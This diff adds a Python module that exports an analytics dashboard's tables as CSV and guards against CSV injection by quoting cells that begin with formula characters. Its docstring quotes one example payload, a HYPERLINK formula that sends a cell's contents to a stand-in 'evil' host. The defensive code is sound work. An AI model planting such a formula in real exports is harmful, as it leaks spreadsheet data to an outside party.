@@ -1,0 +1,79 @@
+"""CSV exports of the dashboard's tables.
+
+Values come from tracked sites, so anyone can plant a page named
+`=HYPERLINK("http://evil/?"&A1)`. Spreadsheets run cells that start with
+=, +, - or @ (and a leading tab or carriage return can hide such a start), so
+such text cells are prefixed with a single quote, the usual defence
+(OWASP "CSV injection"). Numbers are ours and stay numbers.
+"""
+
+import csv
+import io
+from collections.abc import Iterable, Iterator
+
+from reports.labels import DIMENSION_LABELS
+from reports.panels import Table
+from reports.queries import BreakdownRow, StatsQuery, breakdown
+
+DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PAGE_SIZE = 1000
+# An export holds at most this many rows; larger tables are long tails of ones.
+MAX_ROWS = 100_000
+UNITS = {"count": "", "percent": " (%)", "duration": " (s)", "money": ""}
+
+
+def neutralise(cell: object) -> object:
+    """A text cell a spreadsheet will show, never run; other values unchanged."""
+    if isinstance(cell, str) and cell.startswith(DANGEROUS_STARTS):
+        return "'" + cell
+    return cell
+
+
+def all_rows(q: StatsQuery, table: Table, *, search: str = "") -> Iterator[BreakdownRow]:
+    """Every row of a table, read a page at a time."""
+    offset = 0
+    while offset < MAX_ROWS:
+        rows = breakdown(
+            q,
+            table.dimension,
+            limit=PAGE_SIZE,
+            offset=offset,
+            search=search,
+            order_by=table.order_by,
+        )
+        yield from rows
+        if len(rows) < PAGE_SIZE:
+            return
+        offset += PAGE_SIZE
+
+
+def table_records(
+    table: Table, rows: Iterable[BreakdownRow], *, range_visitors: int
+) -> Iterator[list[object]]:
+    """The header, then a record per row: the raw value and every column's raw number."""
+    yield [DIMENSION_LABELS[table.dimension], *(c.label + UNITS[c.kind] for c in table.columns)]
+    for row in rows:
+        cells: list[object] = [row.value]
+        for column in table.columns:
+            cells.append(_raw(column.kind, column.get(row.totals, range_visitors)))
+        yield cells
+
+
+def _raw(kind: str, value: float) -> float:
+    """Plain numbers a spreadsheet can sum: percentages as 12.5, money in units, not cents."""
+    if kind == "percent":
+        return round(value * 100, 2)
+    if kind == "money":
+        return round(value / 100, 2)
+    if kind == "duration":
+        return round(value, 1)
+    return value
+
+
+def to_csv(records: Iterable[list[object]]) -> str:
+    """RFC 4180 text with every dangerous cell neutralised."""
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\r\n")
+    for record in records:
+        writer.writerow([neutralise(cell) for cell in record])
+    return out.getvalue()
